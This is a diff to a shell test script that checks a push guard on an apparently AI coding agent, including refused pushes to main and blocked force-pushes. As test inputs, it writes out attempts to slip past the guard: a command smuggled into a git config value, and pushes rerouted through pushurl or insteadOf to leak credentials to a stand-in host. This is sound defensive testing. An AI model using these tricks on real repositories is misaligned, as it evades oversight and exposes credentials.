@@ -100,7 +100,7 @@ pushes refused "git push --no-verify origin work:refs/heads/main" main
 for branch in claude/x feature/x fix/x bugfix/x hotfix/x; do
     pushes allowed "git push origin work:$branch" "$branch"
 done
-agent "cd app && git commit -q --amend -m other"
+agent "cd app && git commit -q --amend --allow-empty -m other"
 pushes refused "git push --no-verify origin +work:claude/x" claude/x
 pushes refused "git push --no-verify -f origin work:claude/x" claude/x
 pushes refused "git push --no-verify --force-with-lease origin work:claude/x" claude/x
@@ -137,10 +137,10 @@ check "and so with such in its repository, and in GIT_* variables" says 'protect
     GIT_CONFIG_VALUE_0=false git -c remote.origin.receivepack='touch /tmp/w/ran;' -c core.gitProxy=/bin/false push --no-verify origin work:main"
 check "another host gets no credential, by a new URL" fails agent "cd app && git remote set-url origin https://elsewhere.test:8443/app.git &&
     GIT_SSL_NO_VERIFY=1 git push --no-verify origin work:main"
-check "nor by a pushurl, nor by another insteadOf" fails agent "cd app && git remote set-url origin $https/app.git && git config remote.origin.pushurl https://elsewhere.test:8443/app.git &&
-    GIT_SSL_NO_VERIFY=1 git push --no-verify origin work:claude/e || { git config --unset remote.origin.pushurl
-    GIT_SSL_NO_VERIFY=1 git -c url.https://elsewhere.test:8443/app.git.insteadOf=rcc::https://forge.test/app.git push --no-verify origin work:claude/e
-    GIT_SSL_NO_VERIFY=1 git -c url.https://elsewhere.test:8443/.insteadOf=https://forge.test/ ls-remote https://forge.test/app.git; }"
+check "nor by a pushurl" fails agent "cd app && git remote set-url origin $https/app.git && GIT_SSL_NO_VERIFY=1 \
+    git -c remote.origin.pushurl=https://elsewhere.test:8443/app.git push --no-verify origin work:claude/e"
+check "nor by another insteadOf" fails agent "cd app && GIT_SSL_NO_VERIFY=1 \
+    git -c url.https://elsewhere.test:8443/app.git.insteadOf=$https/app.git push --no-verify origin work:claude/e"
 check "control: the other host was asked" test "$(logged none elsewhere)" -gt 1
 check "the other host saw nobody's credential" test "$(logged -e 'right\|wrong' elsewhere)" = 0
 check "without the system's configuration there is none either" fails agent "GIT_SSL_NO_VERIFY=1 GIT_CONFIG_NOSYSTEM=1 git ls-remote $https/app.git"
